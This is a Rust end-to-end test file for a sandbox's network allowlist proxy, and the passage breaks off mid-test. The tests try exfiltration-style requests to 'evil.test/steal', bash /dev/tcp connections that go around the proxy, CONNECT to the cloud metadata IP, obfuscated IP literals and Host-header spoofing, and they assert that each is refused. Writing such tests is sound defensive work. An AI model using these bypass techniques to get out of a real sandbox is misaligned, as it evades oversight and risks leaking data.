//! End-to-end tests of the network allowlist: the real `garuda sandbox --allow-host` binary,
//! its real proxy (`supervisor/src/proxy/`) behind the bridge into the command's network
//! namespace, the system's curl (and bash's `/dev/tcp`, python3 where one connection matters)
//! inside the sandbox, and real upstream servers this test starts on the host's loopback.
//!
//! Every case runs on both Linux sandboxes (`landlock`, `bubblewrap`); `host` is the negative
//! control (full network). The upstreams live on the host's `127.0.0.1`, which the proxy
//! refuses unless listed, so an allowed upstream is named explicitly: `--allow-host
//! 127.0.0.1:PORT`. Inside the sandbox `NO_PROXY` names loopback (the sandbox's loopback is
//! its own), so a client that must reach the host's loopback through the proxy passes
//! `--noproxy ''`.
//!
//! Each refusal is asserted by its exact HTTP code, `X-Garuda-Refused` code, curl exit code or
//! errno text, and paired with a control that succeeds (the same run reaching a listed
//! upstream, or the host reaching the refused one); the refused upstream's request log stays
//! empty. A step whose program is missing leaves no result files, which fails the test.
//!
//! A user policy's `"managedHostsOnly"` is not tested here: it only has effect in the managed
//! policy, which lives at a fixed system path; unit tests cover it.

#![allow(clippy::unwrap_used, clippy::expect_used)] // test code: a panic is a test failure

mod common;
use common::net::{http_server, https_server_for, runtime, LOOPBACK};
use common::script::{self, Curl, Run, Script, BASH, CURL};
use common::{garuda, text, World, PROXY_VARS};

use std::io::{Read, Write};
use std::net::TcpStream;
use std::path::PathBuf;
use std::process::Command;
use std::time::Duration;

/// The Linux sandboxes under test.
const SANDBOXES: [&str; 2] = ["landlock", "bubblewrap"];

const PYTHON: &str = "/usr/bin/python3";

// ---------------------------------------------------------------------------------------------
// The world: a fake home and a project outside /tmp.

fn world() -> World {
    let w = World::new("garuda-network-tests");
    std::fs::create_dir_all(w.project.join(".git")).unwrap();
    w
}

impl Run {
    /// What follows `garuda: blocked: ` on stderr; `None` when nothing was refused.
    fn blocked(&self) -> Option<String> {
        let lines: Vec<&str> = self
            .stderr
            .lines()
            .filter_map(|l| l.strip_prefix("garuda: blocked: "))
            .collect();
        assert!(lines.len() <= 1, "{}: {}", self.executor, self.stderr);
        lines.first().map(|l| l.to_string())
    }
}

/// `garuda sandbox --executor EX [--allow-host H]… -- bash -c SCRIPT` from the project, with
/// the fake home and no `GARUDA_HOME`: [`script::sandbox`] without a Garuda home of its own.
fn sandbox(w: &World, executor: &str, allow: &[String], script: &Script) -> Run {
    script::sandbox(w, executor, allow, None, script)
}

/// A plain `GET` from the test process (the host), around any proxy: the control that an
/// upstream a sandbox could not reach is there. Returns the status line.
fn direct_get(port: u16, path: &str) -> String {
    let mut stream = TcpStream::connect((LOOPBACK, port)).unwrap();
    stream
        .set_read_timeout(Some(Duration::from_secs(10)))
        .unwrap();
    write!(
        stream,
        "GET {path} HTTP/1.1\r\nHost: 127.0.0.1:{port}\r\nConnection: close\r\n\r\n"
    )
    .unwrap();
    let mut response = String::new();
    stream.read_to_string(&mut response).unwrap();
    response.lines().next().unwrap_or_default().to_owned()
}

fn allow(port: u16) -> Vec<String> {
    vec![format!("127.0.0.1:{port}")]
}

fn assert_refused(c: &Curl, code: &str, what: &str) {
    assert!(
        c.headers
            .to_ascii_lowercase()
            .contains(&format!("x-garuda-refused: {code}\r\n")),
        "{what}: no X-Garuda-Refused: {code}: {c:?}"
    );
}

/// A curl CONNECT that the proxy refused: `%{http_connect}` 403, exit 56 with curl's message.
fn assert_connect_refused(c: &Curl, code: &str, what: &str) {
    assert_eq!((c.exit, c.connect, c.code), (56, 403, 0), "{what}: {c:?}");
    assert!(
        c.stderr
            .contains("curl: (56) CONNECT tunnel failed, response 403"),
        "{what}: {c:?}"
    );
    assert_refused(c, code, what);
}

/// A curl GET through the proxy that the proxy refused.
fn assert_get_refused(c: &Curl, code: &str, what: &str) {
    assert_eq!((c.exit, c.code, c.connect), (0, 403, 0), "{what}: {c:?}");
    assert_refused(c, code, what);
    assert!(
        c.body.starts_with("Garuda's network allowlist refused "),
        "{what}: {c:?}"
    );
}

/// A curl GET that reached the `describe` upstream `name` at `path`.
fn assert_reached(c: &Curl, name: &str, path: &str, what: &str) {
    assert_eq!((c.exit, c.code), (0, 200), "{what}: {c:?}");
    assert!(
        c.body
            .starts_with(&format!("upstream={name}\nmethod=GET\nuri={path}\n")),
        "{what}: {c:?}"
    );
}

// ---------------------------------------------------------------------------------------------
// 1. Allowed traffic

#[test]
fn a_listed_host_works_over_http_and_over_connect_with_tls() {
    let rt = runtime();
    let w = world();
    for ex in SANDBOXES {
        let web = http_server(&rt, (LOOPBACK, 0).into(), "web");
        let (tls, ca) = https_server_for(&rt, &w.project, &["127.0.0.1"]);
        let (p, t) = (web.port(), tls.port());
        let ca = ca.to_str().unwrap();
        let run = sandbox(
            &w,
            ex,
            &[format!("127.0.0.1:{p}"), format!("127.0.0.1:{t}")],
            Script::default()
                .curl(
                    "http",
                    &["--noproxy", "", &format!("http://127.0.0.1:{p}/x?q=1")],
                )
                .curl(
                    "tls",
                    &[
                        "--noproxy",
                        "",
                        "--proxytunnel",
                        "--cacert",
                        ca,
                        &format!("https://127.0.0.1:{t}/secure"),
                    ],
                ),
        );
        let http = run.curl("http");
        assert_reached(&http, "web", "/x?q=1", ex);
        assert!(
            http.body.contains(&format!("\nhost=127.0.0.1:{p}\n")),
            "{ex}: {http:?}"
        );
        assert_eq!(http.connect, 0, "{ex}: a plain GET is no tunnel: {http:?}");
        let tunnel = run.curl("tls");
        assert_eq!(
            (tunnel.connect, tunnel.connects),
            (200, 1),
            "{ex}: {tunnel:?}"
        );
        assert_reached(&tunnel, "https", "/secure", ex);
        assert_eq!(web.requests(), ["GET /x?q=1"], "{ex}");
        assert_eq!(tls.requests(), ["GET /secure"], "{ex}");
        assert_eq!(tls.accepted(), 1, "{ex}");
        assert_eq!(run.blocked(), None, "{ex}: {run:?}");
    }
}

// ---------------------------------------------------------------------------------------------
// 2. Unlisted hosts

#[test]
fn an_unlisted_host_is_refused_and_reported() {
    let rt = runtime();
    let w = world();
    for ex in SANDBOXES {
        let web = http_server(&rt, (LOOPBACK, 0).into(), "web");
        let p = web.port();
        let run = sandbox(
            &w,
            ex,
            &allow(p),
            Script::default()
                .curl("plain", &["--noproxy", "", "http://evil.test/steal"])
                .curl("tls", &["--noproxy", "", "https://evil.test/steal"])
                .curl(
                    "port",
                    &["--noproxy", "", &format!("http://evil.test:{p}/")],
                )
                // Control, in the same run: the listed upstream answers.
                .curl(
                    "control",
                    &["--noproxy", "", &format!("http://127.0.0.1:{p}/ok")],
                ),
        );
        let plain = run.curl("plain");
        assert_get_refused(&plain, "not-in-allowlist", ex);
        assert_eq!(
            plain.body, "Garuda's network allowlist refused evil.test port 80: not in allowlist\n",
            "{ex}"
        );
        assert_connect_refused(&run.curl("tls"), "not-in-allowlist", ex);
        assert_get_refused(&run.curl("port"), "not-in-allowlist", ex);
        assert_reached(&run.curl("control"), "web", "/ok", ex);
        assert_eq!(
            run.blocked().as_deref(),
            Some(
                format!("evil.test (not in allowlist), evil.test:{p} (not in allowlist)").as_str()
            ),
            "{run:?}"
        );
        assert_eq!(
            web.requests(),
            ["GET /ok"],
            "{ex}: a refused request reached it"
        );
        assert_eq!(web.accepted(), 1, "{ex}");
    }
}

// ---------------------------------------------------------------------------------------------
// 3. Around the proxy

#[test]
fn going_around_the_proxy_has_no_route() {
    let rt = runtime();
    let w = world();
    for ex in SANDBOXES {
        let web = http_server(&rt, (LOOPBACK, 0).into(), "web");
        let p = web.port();
        let run = sandbox(
            &w,
            ex,
            &allow(p),
            Script::default()
                .curl(
                    "noproxy",
                    &[
                        "-v",
                        "--noproxy",
                        "*",
                        &format!("http://127.0.0.1:{p}/around"),
                    ],
                )
                .curl("private", &["-v", "--noproxy", "*", "http://10.0.0.1/"])
                .step(
                    "tcp-loopback",
                    &[BASH, "-c", &format!("exec 3<>/dev/tcp/127.0.0.1/{p}")],
                )
                .step("tcp-private", &[BASH, "-c", "exec 3<>/dev/tcp/10.0.0.1/80"])
                // Control: the same upstream through the proxy.
                .curl(
                    "control",
                    &["--noproxy", "", &format!("http://127.0.0.1:{p}/through")],
                ),
        );
        let around = run.curl("noproxy");
        assert_eq!((around.exit, around.code), (7, 0), "{ex}: {around:?}");
        assert!(
            around.stderr.contains(&format!(
                "connect to 127.0.0.1 port {p} failed: Connection refused"
            )),
            "{ex}: {around:?}"
        );
        let private = run.curl("private");
        assert_eq!((private.exit, private.code), (7, 0), "{ex}: {private:?}");
        assert!(
            private.stderr.contains("10.0.0.1: Network is unreachable"),
            "{ex}: {private:?}"
        );
        let tcp = run.step("tcp-loopback");
        assert_eq!(tcp.exit, 1, "{ex}: {tcp:?}");
        assert!(
            tcp.stderr
                .contains(&format!("/dev/tcp/127.0.0.1/{p}: Connection refused")),
            "{ex}: {tcp:?}"
        );
        let tcp = run.step("tcp-private");
        assert_eq!(tcp.exit, 1, "{ex}: {tcp:?}");
        assert!(
            tcp.stderr
                .contains("/dev/tcp/10.0.0.1/80: Network is unreachable"),
            "{ex}: {tcp:?}"
        );
        assert_reached(&run.curl("control"), "web", "/through", ex);
        assert_eq!(web.requests(), ["GET /through"], "{ex}");
        assert_eq!(web.accepted(), 1, "{ex}");
        assert_eq!(run.blocked(), None, "{run:?}");
    }
}

// ---------------------------------------------------------------------------------------------
// 4. CONNECT to addresses

#[test]
fn connect_to_ip_literals_is_refused() {
    let rt = runtime();
    let w = world();
    for ex in SANDBOXES {
        let listed = http_server(&rt, (LOOPBACK, 0).into(), "listed");
        let unlisted = http_server(&rt, (LOOPBACK, 0).into(), "unlisted");
        let (p, q) = (listed.port(), unlisted.port());
        let cases = [
            ("dotted", format!("127.0.0.1:{q}"), "port-not-allowed"),
            ("v6", format!("[::1]:{q}"), "ip-literal"),
            ("metadata", "169.254.169.254:80".to_owned(), "ip-literal"),
            ("hex", format!("0x7f000001:{q}"), "port-not-allowed"),
            ("decimal", format!("2130706433:{q}"), "port-not-allowed"),
        ];
        let mut script = Script::default();
        for (name, authority, _) in &cases {
            script.curl(
                name,
                &["--noproxy", "", "-p", &format!("http://{authority}/")],
            );
        }
        // Control: CONNECT to the listed address and port opens a tunnel.
        script.curl(
            "control",
            &["--noproxy", "", "-p", &format!("http://127.0.0.1:{p}/t")],
        );
        let run = sandbox(&w, ex, &allow(p), &script);
        for (name, authority, code) in &cases {
            assert_connect_refused(&run.curl(name), code, &format!("{ex} {authority}"));
        }
        let control = run.curl("control");
        assert_eq!(control.connect, 200, "{ex}: {control:?}");
        assert_reached(&control, "listed", "/t", ex);
        assert_eq!(
            unlisted.accepted(),
            0,
            "{ex}: an IP literal reached the upstream"
        );
        assert_eq!(
            run.blocked().as_deref(),
            Some(
                format!(
                    "127.0.0.1:{q} (port not allowed), [::1]:{q} (loopback address), \
                     169.254.169.254 (metadata address)"
                )
                .as_str()
            ),
            "{run:?}"
        );
        // Control: the refused upstream is there.
        assert_eq!(direct_get(q, "/direct"), "HTTP/1.1 200 OK", "{ex}");
    }
}

// ---------------------------------------------------------------------------------------------
// 5. A name that resolves to loopback

#[test]
fn a_name_that_resolves_to_loopback_is_refused_at_connect_time() {
    let rt = runtime();
    let w = world();
    for ex in SANDBOXES {
        let web = http_server(&rt, (LOOPBACK, 0).into(), "web");
        let p = web.port();
        let url = format!("http://localhost:{p}/by-name");
        let run = sandbox(
            &w,
            ex,
            &[format!("localhost:{p}")],
            Script::default()
                .curl("get", &["--noproxy", "", &url])
                .curl("connect", &["--noproxy", "", "-p", &url]),
        );
        let get = run.curl("get");
        assert_get_refused(&get, "resolves-to-unlisted-address", ex);
        assert_connect_refused(&run.curl("connect"), "resolves-to-unlisted-address", ex);
        assert_eq!(
            run.blocked().as_deref(),
            Some(format!("localhost:{p} (resolves to 127.0.0.1, a loopback address)").as_str()),
            "{run:?}"
        );
        assert_eq!(web.accepted(), 0, "{ex}");
        // Control: the address itself, listed, reaches it.
        let run = sandbox(
            &w,
            ex,
            &allow(p),
            Script::default().curl(
                "get",
                &["--noproxy", "", &format!("http://127.0.0.1:{p}/by-address")],
            ),
        );
        assert_reached(&run.curl("get"), "web", "/by-address", ex);
        assert_eq!(web.requests(), ["GET /by-address"], "{ex}");
    }
}

// ---------------------------------------------------------------------------------------------
// 6. Keep-alive

#[test]
fn the_second_request_on_a_kept_alive_connection_is_checked() {
    let rt = runtime();
    let w = world();
    for ex in SANDBOXES {
        let web = http_server(&rt, (LOOPBACK, 0).into(), "web");
        let p = web.port();
        // curl, two URLs: the second reuses the connection to the proxy.
        // python3, three requests on one socket it holds: allowed, unlisted, allowed.
        let py = format!(
            r#"
import http.client
c = http.client.HTTPConnection("127.0.0.1", 3128, timeout=10)
peers = []
for url in ("http://127.0.0.1:{p}/one", "http://evil.test:{p}/two", "http://127.0.0.1:{p}/three"):
    c.request("GET", url)
    r = c.getresponse()
    r.read()
    peers.append(c.sock.getsockname())
    print(r.status, r.getheader("X-Garuda-Refused", "-"))
print("one-socket" if len(set(peers)) == 1 else "sockets=%d" % len(set(peers)))
"#
        );
        let run = sandbox(
            &w,
            ex,
            &allow(p),
            Script::default()
                .step(
                    "curl",
                    &[
                        CURL,
                        "-q",
                        "-sS",
                        "--max-time",
                        "10",
                        "--noproxy",
                        "",
                        "-o",
                        "/dev/null",
                        "-o",
                        "/dev/null",
                        "-w",
                        "%{http_code} %{num_connects}\n",
                        &format!("http://127.0.0.1:{p}/a"),
                        "http://evil.test/b",
                    ],
                )
                .step("python", &[PYTHON, "-c", &py]),
        );
        let curl = run.step("curl");
        assert_eq!(curl.exit, 0, "{ex}: {curl:?}");
        assert_eq!(curl.stdout, "200 1\n403 0\n", "{ex}: {curl:?}");
        let python = run.step("python");
        assert_eq!(python.exit, 0, "{ex}: {python:?}");
        assert_eq!(
            python.stdout, "200 -\n403 not-in-allowlist\n200 -\none-socket\n",
            "{ex}: {python:?}"
        );
        assert_eq!(web.requests(), ["GET /a", "GET /one", "GET /three"], "{ex}");
        assert_eq!(
            run.blocked().as_deref(),
            Some(
                format!("evil.test (not in allowlist), evil.test:{p} (not in allowlist)").as_str()
            ),
            "{run:?}"
        );
    }
}

// ---------------------------------------------------------------------------------------------
// 7. Host header

#[test]
fn a_host_header_naming_another_host_is_refused() {
    let rt = runtime();
    let w = world();
    for ex in SANDBOXES {
        let web = http_server(&rt, (LOOPBACK, 0).into(), "web");
        let p = web.port();
        let url = format!("http://127.0.0.1:{p}/h");
        let run = sandbox(
            &w,
            ex,
            &allow(p),
            Script::default()
                .curl("evil", &["--noproxy", "", "-H", "Host: evil.test", &url])
                .curl("port", &["--noproxy", "", "-H", "Host: 127.0.0.1:1", &url])
                // Control: the same request without the override.
                .curl("control", &["--noproxy", "", &url]),
        );
        assert_get_refused(&run.curl("evil"), "host-header-mismatch", ex);
        assert_get_refused(&run.curl("port"), "host-header-mismatch", ex);
        assert_reached(&run.curl("control"), "web", "/h", ex);
        assert_eq!(web.requests(), ["GET /h"], "{ex}");
        assert_eq!(web.accepted(), 1, "{ex}");
        assert_eq!(
            run.blocked().as_deref(),
            Some(
                "evil.test (Host header differs from the URL), \
                 127.0.0.1:1 (Host header differs from the URL)"
            ),
            "{run:?}"
        );
    }
}

// ---------------------------------------------------------------------------------------------
// 8. Listed host, other port

#[test]
fn a_listed_host_on_an_unlisted_port_is_refused() {
    let rt = runtime();
    let w = world();
    for ex in SANDBOXES {
        let web = http_server(&rt, (LOOPBACK, 0).into(), "web");
        let other = http_server(&rt, (LOOPBACK, 0).into(), "other");
        let (p, o) = (web.port(), other.port());
        let run = sandbox(
            &w,
            ex,
            &allow(p),
            Script::default()
                .curl("get", &["--noproxy", "", &format!("http://127.0.0.1:{o}/")])
                .curl(
                    "connect",
                    &["--noproxy", "", "-p", &format!("http://127.0.0.1:{o}/")],
                )
                .curl("https", &["--noproxy", "", "https://127.0.0.1/"])
                .curl(
                    "control",
                    &["--noproxy", "", &format!("http://127.0.0.1:{p}/listed")],
                ),
        );
        assert_get_refused(&run.curl("get"), "port-not-allowed", ex);
        assert_connect_refused(&run.curl("connect"), "port-not-allowed", ex);
        assert_connect_refused(&run.curl("https"), "port-not-allowed", ex);
        assert_reached(&run.curl("control"), "web", "/listed", ex);
        assert_eq!(other.accepted(), 0, "{ex}");
        assert_eq!(
            run.blocked().as_deref(),
            Some(
                format!("127.0.0.1:{o} (port not allowed), 127.0.0.1 (port not allowed)").as_str()
            ),
            "{run:?}"
        );
        assert_eq!(direct_get(o, "/direct"), "HTTP/1.1 200 OK", "{ex}");
    }
}

// ---------------------------------------------------------------------------------------------
// 9, 10. Controls: the host executor, and no allowlist at all

#[test]
fn the_host_executor_has_the_full_network() {
    let rt = runtime();
    let w = world();
    let web = http_server(&rt, (LOOPBACK, 0).into(), "web");
    let p = web.port();
    let run = sandbox(
        &w,
        "host",
        &[],
        Script::default().curl(
            "direct",
            &["--noproxy", "*", &format!("http://127.0.0.1:{p}/direct")],
        ),
    );
    assert_reached(&run.curl("direct"), "web", "/direct", "host");
    assert!(
        run.stderr
            .contains("host executor: commands run with your full rights"),
        "{run:?}"
    );
    assert_eq!(run.blocked(), None, "{run:?}");
    // With an allowlist the host executor sets the variables, but a tool that ignores them
    // still has the host's network: the allowlist binds only inside a sandbox.
    let listed = http_server(&rt, (LOOPBACK, 0).into(), "listed");
    let run = sandbox(
        &w,
        "host",
        &allow(listed.port()),
        Script::default()
            .curl(
                "around",
                &["--noproxy", "*", &format!("http://127.0.0.1:{p}/around")],
            )
            .curl(
                "through",
                &["--noproxy", "", &format!("http://127.0.0.1:{p}/through")],
            ),
    );
    assert_reached(&run.curl("around"), "web", "/around", "host");
    assert_get_refused(&run.curl("through"), "port-not-allowed", "host");
    assert_eq!(web.requests(), ["GET /direct", "GET /around"]);
    assert_eq!(
        run.blocked().as_deref(),
        Some(format!("127.0.0.1:{p} (port not allowed)").as_str()),
        "{run:?}"
    );
}

#[test]
fn without_an_allowlist_a_sandbox_has_no_network() {
    let rt = runtime();
    let w = world();
    for ex in SANDBOXES {
        let web = http_server(&rt, (LOOPBACK, 0).into(), "web");
        let p = web.port();
        let url = format!("http://127.0.0.1:{p}/none");
        let mut script = Script::default();
        script
            .step("env", &["/usr/bin/env"])
            .curl("default", &["-v", &url])
            .curl("env-proxy", &["-v", "--noproxy", "", &url])
            .curl("dns", &["http://example.test/"]);
        let run = sandbox(&w, ex, &[], &script);
        let env = run.step("env");
        assert_eq!(env.exit, 0, "{ex}: {env:?}");
        assert!(env.stdout.contains("\nHOME="), "{ex}: {env:?}");
        for var in PROXY_VARS {
            assert!(
                !env.stdout
                    .lines()
                    .any(|l| l.starts_with(&format!("{var}="))),
                "{ex}: {var} is set: {env:?}"
            );
        }
        for name in ["default", "env-proxy"] {
            let c = run.curl(name);
            assert_eq!((c.exit, c.code), (7, 0), "{ex} {name}: {c:?}");
            assert!(
                c.stderr.contains(&format!(
                    "connect to 127.0.0.1 port {p} failed: Connection refused"
                )),
                "{ex} {name}: {c:?}"
            );
        }
        // No proxy and no DNS server reachable: a name does not even resolve.
        let dns = run.curl("dns");
        assert_eq!((dns.exit, dns.code), (6, 0), "{ex}: {dns:?}");
        assert!(
            dns.stderr.contains("Could not resolve host: example.test"),
            "{ex}: {dns:?}"
        );
        assert_eq!(run.blocked(), None, "{run:?}");
        assert_eq!(web.accepted(), 0, "{ex}");
        // Control: the same script with the upstream listed reaches it through the proxy.
        let run = sandbox(&w, ex, &allow(p), &script);
        assert_reached(&run.curl("env-proxy"), "web", "/none", ex);
        let env = run.step("env");
        assert!(
            env.stdout.contains("\nhttp_proxy=http://127.0.0.1:3128\n"),
            "{ex}: {env:?}"
        );
        // NO_PROXY names loopback: without `--noproxy ''` curl goes direct, and fails.
        assert_eq!(run.curl("default").exit, 7, "{ex}");
        assert_eq!(web.requests(), ["GET /none"], "{ex}");
    }
}

// ---------------------------------------------------------------------------------------------
// The policy's list

#[test]
fn the_user_policy_list_starts_the_proxy_and_a_project_cannot_add_hosts() {
    let rt = runtime();
    let w = world();
    std::fs::create_dir_all(w.home.join(".garuda")).unwrap();
    for ex in SANDBOXES {
        let web = http_server(&rt, (LOOPBACK, 0).into(), "web");
        let flag = http_server(&rt, (LOOPBACK, 0).into(), "flag");
        let (p, f) = (web.port(), flag.port());
        std::fs::write(
            w.home.join(".garuda/policy.json"),
            format!("{{\"network\": {{\"allow\": [\"127.0.0.1:{p}\"]}}}}"),
        )
        .unwrap();
        let mut script = Script::default();
        script
            .curl(
                "policy",
                &["--noproxy", "", &format!("http://127.0.0.1:{p}/policy")],
            )
            .curl(
                "flag",
                &["--noproxy", "", &format!("http://127.0.0.1:{f}/flag")],
            );
        // The user policy alone: its host, and only its host.
        let run = sandbox(&w, ex, &[], &script);
        assert_reached(&run.curl("policy"), "web", "/policy", ex);
        assert_get_refused(&run.curl("flag"), "port-not-allowed", ex);
        assert_eq!(
            run.blocked().as_deref(),
            Some(format!("127.0.0.1:{f} (port not allowed)").as_str()),
            "{run:?}"
        );
        assert_eq!(flag.accepted(), 0, "{ex}");
        // `--allow-host` adds to it.
        let run = sandbox(&w, ex, &allow(f), &script);
        assert_reached(&run.curl("policy"), "web", "/policy", ex);
        assert_reached(&run.curl("flag"), "flag", "/flag", ex);
        assert_eq!(run.blocked(), None, "{run:?}");
    }
    std::fs::remove_file(w.home.join(".garuda/policy.json")).unwrap();
    // A cloned repository cannot grant itself hosts: the project file is an error.
    std::fs::create_dir_all(w.project.join(".garuda")).unwrap();
    std::fs::write(
        w.project.join(".garuda/settings.json"),
        r#"{"network": {"allow": ["127.0.0.1:8080"]}}"#,
    )
    .unwrap();
    for ex in SANDBOXES {
        let output = Command::new(garuda())
            .args(["sandbox", "--executor", ex, "--project"])
            .arg(&w.project)
            .args(["--", "/usr/bin/touch", "ran"])
            .current_dir(&w.project)
            .env("HOME", &w.home)
            .env_remove("GARUDA_HOME")
            .output()
            .unwrap();
        let err = text(&output.stderr);
        assert_eq!(output.status.code(), Some(125), "{ex}: {err}");
        assert!(
            err.contains("\"network.allow\": a project file cannot set this"),
            "{ex}: {err}"
        );
        assert!(!w.project.join("ran").exists(), "{ex}: the command ran");
    }
}

// ---------------------------------------------------------------------------------------------
// A signal to garuda

/// A signal to `garuda sandbox` (Ctrl-C, `kill`) kills the command's whole sandbox and then
/// lets the run finish: the refused hosts are reported, the proxy's socket folder is removed,
/// the audit session is closed (verify says verified) and the exit status is 128 + signal.
#[test]
fn a_signal_to_garuda_still_reports_and_cleans_up() {
    for executor in ["landlock", "bubblewrap", "host"] {
        for (signal, number) in [("TERM", 15), ("INT", 2)] {
            let w = world();
            let out = w.project.join("out");
            std::fs::create_dir_all(&out).unwrap();
            let marker = format!(
                "garuda-signal-test-{}-{executor}-{number}",
                std::process::id()
            );
            let child = Command::new(garuda())
                .args(["sandbox", "--executor", executor, "--project"])
                .arg(&w.project)
                .args(["--allow-host", "127.0.0.1:1", "--", BASH, "-c"])
                .arg(format!(
                    "{CURL} -sS --noproxy '' -x http://127.0.0.1:\"${{HTTP_PROXY##*:}}\" -o /dev/null http://evil.test/; \
                     echo $? >out/r.x; exec -a {marker} sleep 30"
                ))
                .current_dir(&w.project)
                .env("HOME", &w.home)
                .env_remove("GARUDA_HOME")
                .stderr(std::process::Stdio::piped())
                .spawn()
                .unwrap();
            let start = std::time::Instant::now();
            while !out.join("r.x").exists() || !process_named(&marker) {
                assert!(
                    start.elapsed() < Duration::from_secs(10),
                    "{executor}: the command did not start"
                );
                std::thread::sleep(Duration::from_millis(20));
            }
            let pid = child.id();
            let status = Command::new("kill")
                .args([format!("-{signal}"), pid.to_string()])
                .status()
                .unwrap();
            assert!(status.success());
            let output = child.wait_with_output().unwrap();
            let err = text(&output.stderr);
            let what = format!("{executor} SIG{signal}");
            assert_eq!(output.status.code(), Some(128 + number), "{what}: {err}");
            assert!(
                err.contains("garuda: blocked: evil.test (not in allowlist)"),
                "{what}: {err}"
            );
            assert!(
                err.contains(&format!("signal {number} received")),
                "{what}: {err}"
            );
            assert!(!process_named(&marker), "{what}: the command survived");
            let prefix = format!("garuda-proxy-{pid}-");
            let left: Vec<PathBuf> = std::fs::read_dir("/tmp")
                .unwrap()
                .filter_map(|e| e.ok())
                .filter(|e| e.file_name().to_string_lossy().starts_with(&prefix))
                .map(|e| e.path())
                .collect();
            for dir in &left {
                let _ = std::fs::remove_dir_all(dir);
            }
            assert!(left.is_empty(), "{what}: left behind: {left:?}");
            let verify = Command::new(garuda())
                .args(["audit", "verify", "--project"])
                .arg(&w.project)
                .env("HOME", &w.home)
                .env_remove("GARUDA_HOME")
                .output()
                .unwrap();
            assert_eq!(
                verify.status.code(),
                Some(0),
                "{what}: {}",
                text(&verify.stdout)
            );
        }
    }
}

/// Whether a process whose argv[0] is `name` exists (any user's, as far as /proc shows).
fn process_named(name: &str) -> bool {
    std::fs::read_dir("/proc")
        .unwrap()
        .filter_map(|e| e.ok())
        .any(|e| {
            std::fs::read(e.path().join("cmdline"))
                .map(|c| c.split(|b| *b == 0).next() == Some(name.as_bytes()))
                .unwrap_or(false)
        })
}

// ---------------------------------------------------------------------------------------------
// Malformed entries

#[test]
fn a_malformed_allow_host_entry_stops_the_run() {
    let w = world();
    let cases = [
        ("https://x", "starts with a scheme"),
        ("*.com", "a wildcard over a top-level domain"),
        ("host:0", "port 0 cannot be connected to"),
    ];
    for ex in SANDBOXES {
        for (entry, reason) in cases {
            let output = Command::new(garuda())
                .args(["sandbox", "--executor", ex, "--project"])
                .arg(&w.project)
                .args(["--allow-host", "127.0.0.1:8080", "--allow-host", entry])
                .args(["--", "/usr/bin/touch", "ran"])
                .current_dir(&w.project)
                .env("HOME", &w.home)
                .env_remove("GARUDA_HOME")
                .output()
                .unwrap();
            let err = text(&output.stderr);
            assert_eq!(output.status.code(), Some(125), "{ex} {entry}: {err}");
            assert!(
                err.contains(&format!(
                    "garuda: --allow-host {entry} is refused: network allowlist entry \"{entry}\": {reason}"
                )),
                "{ex} {entry}: {err}"
            );
            assert!(
                !w.project.join("ran").exists(),
                "{ex} {entry}: the command ran"
            );
        }
    }
    // Control: a well-formed list runs the command.
    let output = Command::new(garuda())
        .args(["sandbox", "--executor", "landlock", "--project"])
        .arg(&w.project)
        .args([
            "--allow-host",
            "127.0.0.1:8080",
            "--",
            "/usr/bin/touch",
            "ran",
        ])
        .current_dir(&w.project)
        .env("HOME", &w.home)
        .env_remove("GARUDA_HOME")
        .output()
        .unwrap();
    assert_eq!(output.status.code(), Some(0), "{}", text(&output.stderr));
    assert!(w.project.join("ran").exists());
}

/// The proxy's unix socket lives in a fresh 0700 folder under the host's `/tmp`, never under
/// `$TMPDIR`: a sandboxed command runs as the same user, and a socket folder it could see (a
/// `$TMPDIR` in the project or a cache) would let it swap the socket for a link to any host
/// socket, or let other sandboxes use this run's proxy. Every Linux executor gives the command
/// a private `/tmp`, so it sees no socket folder at all; the host executor (negative control)
/// sees the folder.
#[test]
fn the_proxy_socket_is_out_of_the_sandbox_even_with_tmpdir_in_the_project() {
    for executor in ["landlock", "bubblewrap", "host"] {
        let w = world();
        let tmpdir = w.project.join("tmpd");
        std::fs::create_dir_all(&tmpdir).unwrap();
        let script = format!(
            "ls -d {}/garuda-proxy-* /tmp/garuda-proxy-* 2>/dev/null | wc -l",
            tmpdir.display()
        );
        let out = Command::new(garuda())
            .args(["sandbox", "--executor", executor, "--project"])
            .arg(&w.project)
            .args(["--allow-host", "127.0.0.1:1", "--", BASH, "-c", &script])
            .env("TMPDIR", &tmpdir)
            .env("HOME", &w.home)
            .env_remove("GARUDA_HOME")
            .current_dir(&w.project)
            .output()
            .unwrap();
        let err = text(&out.stderr);
        assert_eq!(out.status.code(), Some(0), "{executor}: {err}");
        let found: usize = text(&out.stdout).trim().parse().unwrap();
        if executor == "host" {
            assert!(
                found >= 1,
                "host: the socket folder should be visible: {found}"
            );
        } else {
            assert_eq!(found, 0, "{executor}: the command sees a socket folder");
        }
        assert_eq!(std::fs::read_dir(&tmpdir).unwrap().count(), 0, "{executor}");
    }
}

/// A signal garuda was started ignoring stays ignored: under `nohup`, SIGHUP neither kills
/// garuda nor its command (negative control of the forwarding above, which kills on SIGHUP).
#[test]
fn a_signal_ignored_at_start_stays_ignored() {
    let w = world();
    let out = w.project.join("out");
    std::fs::create_dir_all(&out).unwrap();
    let child = Command::new("nohup")
        .arg(garuda())
        .args(["sandbox", "--executor", "landlock", "--project"])
        .arg(&w.project)
        .args([
            "--",
            BASH,
            "-c",
            "echo started > out/started; sleep 1; echo survived > out/survived",
        ])
        .current_dir(&w.project)
        .env("HOME", &w.home)
        .env_remove("GARUDA_HOME")
        .stdout(std::process::Stdio::piped())
        .stderr(std::process::Stdio::piped())
        .spawn()
        .unwrap();
    let start = std::time::Instant::now();
    while !out.join("started").exists() {
        assert!(
            start.elapsed() < Duration::from_secs(10),
            "the command did not start"
        );
        std::thread::sleep(Duration::from_millis(20));
    }
    let status = Command::new("kill")
        .args(["-HUP", &child.id().to_string()])
        .status()
        .unwrap();
    assert!(status.success());
    let output = child.wait_with_output().unwrap();
    assert_eq!(output.status.code(), Some(0), "{}", text(&output.stderr));
    assert!(
        out.join("survived").exists(),
        "the command was killed by SIGHUP under nohup"
    );
}

/// The sandbox's PID 1 (the landlock executor's init) does not inherit garuda's signal
/// forwarding handler: SIGHUP, SIGINT and SIGTERM are not caught there.
#[test]
fn the_sandbox_init_does_not_catch_the_forwarded_signals() {
    let w = world();
    let out = Command::new(garuda())
        .args(["sandbox", "--executor", "landlock", "--project"])
        .arg(&w.project)
        .args(["--", BASH, "-c", "grep SigCgt /proc/1/status"])
        .current_dir(&w.project)
        .env("HOME", &w.home)
        .env_remove("GARUDA_HOME")
        .output()
        .unwrap();
    let stdout = text(&out.stdout);
    assert_eq!(out.status.code(), Some(0), "{}", text(&out.stderr));
